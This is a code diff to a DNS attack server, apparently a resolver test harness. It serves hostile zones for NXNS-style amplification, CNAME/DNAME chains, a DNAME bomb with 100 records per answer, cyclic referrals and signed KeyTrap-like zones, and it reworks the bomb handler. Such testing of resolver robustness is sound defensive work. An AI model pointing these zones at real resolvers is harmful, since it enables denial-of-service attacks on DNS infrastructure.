@@ -9,13 +9,13 @@ attack_server.py --zones attack.json --counts FILE ADDRESS...
   NAME.nxns-small.attack the same, 40 name servers, without TC
   cN.chain.attack        CNAME to c(N+1), one hop for each answer; cN.chain-whole.attack: 100 hops in one answer
   NAME.dname.attack      DNAME to a name below itself: longer each time
-  NAME.bomb.attack       DNAME to bomb1, that to bomb2 ..., and each answer has all of them
+  NAME.dN.bomb.attack    DNAME to d(N+1) and so on, 100 of them in each answer
   NAME.self.attack       a referral to self.attack, which is whom one asks
   NAME.tree.attack       a referral to one label more, for ever
   NAME.tsuname1.attack   a delegation to a server in tsuname2.attack, and that one to a server in tsuname1.attack
   NAME.camp.attack       each name is an alias to another zone with 13 name servers that have to be looked up
   NAME.silent.attack     no answer
-  sigjam.s0, lockcram.s0, keytrap.s0   the signed zones of attack_zones.py
+  NAME.sigjam.s0, .lockcram.s0, .keytrap.s0, .hashtrap.s0   the signed zones of attack_zones.py
 """
 
 import argparse
@@ -28,6 +28,7 @@ import sys
 
 sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "support"))
 from fault_messages import AA, NOERROR, NXDOMAIN, OWNER, QR, TC, read_query, wire_name  # noqa: E402
+from dnssec_signer import name_labels  # noqa: E402
 
 A, NS, CNAME, SOA, DNAME, DNSKEY, RRSIG, CAA = 1, 2, 5, 6, 39, 48, 46, 257
 TTL = 60
@@ -118,7 +119,8 @@ class Attacks:
     def signed_answer(query, zone: bytes, sets) -> Reply:
         reply = Reply()
         kind = {DNSKEY: "dnskey", CAA: "caa"}.get(query.type)
-        if kind and query.name.lower() == zone:
+        depth = len(query.labels) - len(name_labels(zone))
+        if kind and depth == (0 if query.type == DNSKEY else 1):
             reply.answer = [record(OWNER, query.type, rdata) for rdata in sets[kind]] + \
                 [record(OWNER, RRSIG, rdata) for rdata in sets[kind + "_signatures"]]
         else:
@@ -164,18 +166,15 @@ class Attacks:
 
     @staticmethod
     def bomb(query, labels) -> Reply:
+        """NAME.dN.bomb.attack: DNAME of dN to d(N+1), and so on."""
         reply = Reply()
-        apex = wire_name("bomb.attack")
-        if len(labels) == 2:
-            reply.authority = [soa(apex)]
+        if len(labels) < 4 or not labels[-3][1:].isdigit():
+            reply.authority = [soa(wire_name("bomb.attack"))]
             return reply
-        prefix, owner = query.name[:-len(apex)], apex
-        for number in range(CHAIN_HOPS):
-            target = wire_name(f"b{number}.bomb.attack")
+        first, prefix = int(labels[-3][1:]), wire_name(".".join(labels[:-3]))[:-1]
+        for number in range(first, first + CHAIN_HOPS):
+            owner, target = wire_name(f"d{number}.bomb.attack"), wire_name(f"d{number + 1}.bomb.attack")
             reply.answer += [record(owner, DNAME, target), record(prefix + owner, CNAME, prefix + target)]
-            owner = target
-            if len(prefix + owner) > 250:
-                break
         return reply
 
     @staticmethod
